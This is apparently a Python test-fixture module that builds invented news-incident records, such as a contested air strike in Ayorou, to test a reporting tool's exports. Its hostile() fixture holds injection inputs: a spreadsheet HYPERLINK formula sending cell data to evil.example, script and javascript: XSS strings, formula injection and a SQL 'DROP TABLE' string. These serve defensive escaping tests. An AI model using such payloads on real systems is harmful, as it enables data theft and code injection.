"""Incidents of a desk, made by hand over made-up reports in real places, for the tests of its exports."""

from __future__ import annotations

import dataclasses
import hashlib
import weakref
from collections.abc import Iterator
from typing import Any

from reportedly.model import Document, Span
from reportedly.sentences import Sentences
from reportedly.weigh.types import (
    Count,
    DeskAccount,
    DeskIncident,
    DeskParty,
    DeskPlace,
    Dispute,
    Estimate,
    Field,
    Grading,
    Origin,
    OriginCount,
    Position,
    Quote,
    Report,
    Retraction,
    Said,
    Told,
)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1) <script>alert(1)</script>'
_TEXTS = {
    "first": "An air strike hit the market of Ayorou on Sunday. It killed 14 people, a hospital official told Meridian "
             "Press. Residents said a drone had circled over the town.",
    "copy": "An air strike hit the market of Ayorou on Sunday.  It killed 14 people, a hospital official told "
            "Meridian Press.",
    "ministry": "Niger's defence ministry denied that its aircraft had struck Ayorou. \"No raid took place,\" it said on "
                "Monday. The front said 20 of its fighters had died.",
    "later": "The front took back its toll. \"None of our men was there,\" a spokesman said.",
    "road": "A bomb went off by a road, a police officer said. He did not say where. Two soldiers were hurt.",
    "square": "Police held dozens of people after a protest somewhere in Peru, a lawyers' group said; at least 30 were "
              "still in custody.",
    "hostile": f"{HOSTILE}\n\"😀 Shots\" were fired,\rwitnesses told @daily. -- They counted 3 dead; +2 wounded. "
               "'=SUM(A1)' was sprayed on a wall.",
}
TEXTS = {hashlib.sha256(text.encode()).hexdigest(): text for text in _TEXTS.values()}
"""The texts of the reports by the id of their document."""

_IDS = {name: hashlib.sha256(text.encode()).hexdigest() for name, text in _TEXTS.items()}


def document(name: str) -> str:
    """The id of one of the reports: first, copy, ministry, later, road, square, hostile."""
    return _IDS[name]


def quote(name: str, words: str) -> Quote:
    """The first of these words in that report, with their sentence."""
    text = _TEXTS[name]
    start = text.index(words)
    sentence = Sentences(Document(_IDS[name], text)).around(Span(start, start + len(words)))
    return Quote(_IDS[name], Span(start, start + len(words)), words, text[sentence.start:sentence.end], sentence.start)


def incidents() -> tuple[DeskIncident, ...]:
    """A contested strike, a bomb without a place, a protest with an open figure in a country, and hostile text."""
    return contested(), placeless(), countrywide(), hostile()


def contested() -> DeskIncident:
    """Three reports and a copy: a toll of 14, a denial, and a toll of 20 that its origin took back."""
    told = Told("airstrike", "happened", False, quote("first", "air strike"))
    again = Told("airstrike", "happened", False, quote("first", "drone had circled"))
    denied = Told("airstrike", "denied", True, quote("ministry", "struck Ayorou"))
    killed = _count("killed", 14, 14, "people", "first", "14 people")
    fighters = dataclasses.replace(_count("killed", 20, 20, "fighters", "ministry", "20 of its fighters"),
                                   status="combatant", certainty="unconfirmed", stands=False)
    none = dataclasses.replace(_count("killed", 0, 0, "men", "later", "None of our men"), status="combatant")
    claim = Said("report", "certain", "indirect", (quote("first", "killed 14 people, a hospital official told"),))
    denial = Said("deny", "certain", "mixed", (quote("ministry", "denied that its aircraft had struck Ayorou"),
                                               quote("ministry", '"No raid took place," it said')), ("the hospital",))
    accounts = (
        DeskAccount("a1", _IDS["first"], "o1", ("a hospital official", "Meridian Press", "The Coastal Courier"),
                    "2024-05-12T18:40:00+00:00", (told,), (killed,), (claim,)),
        DeskAccount("a2", _IDS["first"], "o2", ("residents", "The Coastal Courier"), "2024-05-12T18:40:00+00:00",
                    (told, again)),
        DeskAccount("a3", _IDS["copy"], "o1", ("a hospital official", "Meridian Press", "Gulf Mirror"),
                    "2024-05-12T21:05:00+00:00", (dataclasses.replace(told, quote=quote("copy", "air strike")),),
                    (_count("killed", 14, 14, "people", "copy", "14 people"),),
                    (dataclasses.replace(claim, quotes=(quote("copy", "killed 14 people, a hospital official told"),)),)),
        DeskAccount("a4", _IDS["ministry"], "o3", ("Niger's defence ministry", "Sahel Wire"), "2024-05-13", (denied,), (),
                    (denial,)),
        DeskAccount("a5", _IDS["ministry"], "o4", ("the front", "Sahel Wire"), "2024-05-13", (), (fighters,)),
        DeskAccount("a6", _IDS["later"], "o4", ("the front", "The Coastal Courier"), "2024-05-14", (), (none,),
                    (Said("deny", "certain", "direct", (quote("later", '"None of our men was there,"'),)),)))
    origins = (
        _origin("o1", "a hospital official", "medic", accounts), _origin("o2", "residents", "witness", accounts),
        _origin("o3", "Niger's defence ministry", "official", accounts),
        _origin("o4", "the front", "armed group", accounts))
    estimate = Estimate("killed", 0, 14, 20, "origins", (
        OriginCount("o1", 14, 14, ("a1", "a3"), (killed.quote,)), OriginCount("o4", 0, 0, ("a6",), (none.quote,))))
    whether = Dispute("whether", (Position("it happened", ("o1", "o2"), ("a1", "a2"), (told.quote,)),
                                  Position("it did not", ("o3",), ("a4",), (denied.quote,))))
    return _incident(
        "k5w2", "airstrike", "2024-05-12", "2024-05-12",
        DeskPlace("Ayorou", "NER", "Tillabéri", 14.73075, 0.91739, 2446675, None, "exact"),
        fields={"type": Field("airstrike", ("a1", "a2"), ("a4",), (told.quote,)),
                "when": Field("12 May 2024", ("a1",), (), (quote("first", "Sunday"),)),
                "where": Field("Ayorou", ("a1",), (), (quote("first", "Ayorou"), quote("ministry", "Ayorou"))),
                "weapon": Field("drone", corrected=True)},
        actors=(DeskParty("Niger's air force", "force", "NER", "denied", "combatant", (), ("a4",),
                          (quote("ministry", "its aircraft"),)),),
        targets=(DeskParty("the market", None, quotes=(quote("first", "the market of Ayorou"),)),),
        victims=(DeskParty("people", "crowd", quotes=(quote("first", "people"),)),),
        estimates=(estimate,), grade=Grading("contested", ("o1", "o3"), (told.quote, denied.quote)), disputes=(whether,),
        retractions=(Retraction("o4", (fighters.quote,), (none.quote,)),),
        reports=(Report(_IDS["first"], "The Coastal Courier", "Strike on a market", "https://courier.example/1?a=1&b=2",
                        "2024-05-12T18:40:00+00:00"),
                 Report(_IDS["copy"], "Gulf Mirror", "Strike on a market", None, "2024-05-12T21:05:00+00:00"),
                 Report(_IDS["ministry"], "Sahel Wire", "Ministry denies raid", "https://wire.example/2", "2024-05-13", 2),
                 Report(_IDS["later"], "The Coastal Courier", None, "https://courier.example/3", "2024-05-14", main=False)),
        accounts=accounts, origins=origins, copies=((_IDS["first"], _IDS["copy"]),), also=("old1", "old2"))


def placeless() -> DeskIncident:
    """One report without an outlet, an address or a day of publication; the incident has a window of days, no place."""
    told = Told("bombing", "happened", False, quote("road", "A bomb went off"))
    accounts = (DeskAccount("a1", _IDS["road"], "o1", ("a police officer", "the report"), None, (told,),
                            (_count("injured", 2, 2, "soldiers", "road", "Two soldiers"),)),)
    return _incident(
        "m3x7", "bombing", "2024-05-01T06:00", "2024-05-31", None, stated=False,
        estimates=(Estimate("injured", 2, 2, 2, "origins", (), corrected=True),),
        grade=Grading("single source", ("o1",), (told.quote,), confirmed=True), reports=(Report(_IDS["road"]),),
        accounts=accounts, origins=(_origin("o1", "a police officer", "official", accounts),))


def countrywide() -> DeskIncident:
    """A place no nearer than a country, with its coordinates; an open figure; only a latest day."""
    told = Told("protest", "happened", False, quote("square", "a protest"))
    accounts = (DeskAccount("a1", _IDS["square"], "o1", ("a lawyers' group", "Andes Daily"), "2024-06-02", (told,),
                            (_count("arrested", 30, None, None, "square", "at least 30"),)),)
    return _incident(
        "p9q1", "protest", None, "2024-06-02", DeskPlace("Peru", "PER", None, -9.19, -75.01, 3932488, None, "country"),
        estimates=(Estimate("arrested", 30, 30, None, "lowest", ()),),
        grade=Grading("single source", ("o1",), (told.quote,)),
        reports=(Report(_IDS["square"], "Andes Daily", "Protest", "https://andes.example/p", "2024-06-02"),),
        accounts=accounts, origins=(_origin("o1", "a lawyers' group", "organisation", accounts),))


def hostile() -> DeskIncident:
    """Text that would act as markup, as a formula or as the end of a row; west of Greenwich, no day."""
    told = Told("shooting", "happened", False, quote("hostile", "Shots"))
    said = Said("claim", "possible", "direct", (quote("hostile", HOSTILE), quote("hostile", "-- They counted 3 dead"),
                                                quote("hostile", "'=SUM(A1)'")), ("@daily",))
    accounts = (DeskAccount("a1", _IDS["hostile"], "o1", ("+witnesses", "@daily\n\"wire\"", "<b>Outlet</b>"), None, (told,),
                            (_count("killed", 3, 3, "=dead", "hostile", "3 dead"),
                             _count("injured", 2, 2, None, "hostile", "+2 wounded")), (said,)),)
    return _incident(
        "z8y6", "shooting", None, None,
        DeskPlace("<i>Sikasso</i>", "MLI", None, 11.31755, -5.66654, 2451184, "-north of", "near"), stated=False,
        fields={"where": Field(HOSTILE, quotes=(quote("hostile", HOSTILE),))},
        actors=(DeskParty('"; DROP TABLE incidents', "unnamed", None, "alleged", quotes=(quote("hostile", "They"),)),),
        grade=Grading("single source", ("o1",), (quote("hostile", HOSTILE), told.quote)),
        reports=(Report(_IDS["hostile"], "<b>Outlet</b>", HOSTILE, 'javascript:alert("x")'),),
        accounts=accounts, origins=(_origin("o1", "+witnesses", "witness", accounts),))


def dated_hostile() -> DeskIncident:
    """The hostile one with a day, for formats that leave out what has none."""
    return dataclasses.replace(hostile(), earliest="2024-07-01", latest="2024-07-01", stated=True)


class Many:
    """As many incidents as are asked for, made one at a time; ``most_alive`` is how many were held at once."""

    def __init__(self, number: int) -> None:
        self.number = number
        self.asked = 0
        self.most_alive = 0

    def __iter__(self) -> Iterator[DeskIncident]:
        incident = contested()
        alive: weakref.WeakSet[_Fields] = weakref.WeakSet()
        for number in range(1, self.number + 1):
            self.asked = number
            fields = _Fields(incident.fields)
            alive.add(fields)
            self.most_alive = max(self.most_alive, len(alive))
            yield dataclasses.replace(incident, id=f"n{number:06}", fields=fields)


class _Fields(dict[str, Field]):
    """Fields of an incident that can be watched; equality by identity."""

    __hash__ = object.__hash__

    def __eq__(self, other: object) -> bool:
        return self is other


def _count(kind: Any, low: int, high: int | None, who: str | None, name: str, words: str) -> Count:
    return Count(kind, low, high, who, "unknown", "incident", "certain", True, quote(name, words))


def _origin(key: str, name: str, kind: Any, accounts: tuple[DeskAccount, ...]) -> Origin:
    own = [account for account in accounts if account.origin == key]
    via = tuple(dict.fromkeys(link for account in own for link in account.source[1:-1]))
    return Origin(key, name, kind, via, tuple(a.id for a in own), tuple(dict.fromkeys(a.document for a in own)))


def _incident(key: str, kind: Any, earliest: str | None, latest: str | None, place: DeskPlace | None,
              **parts: Any) -> DeskIncident:
    empty: dict[str, Any] = dict.fromkeys(
        ("actors", "targets", "victims", "estimates", "disputes", "retractions", "reports", "accounts", "origins"), ())
    return DeskIncident(**{"id": key, "type": kind, "earliest": earliest, "latest": latest, "stated": True, "place": place,
                           "fields": {}, **empty, **parts})
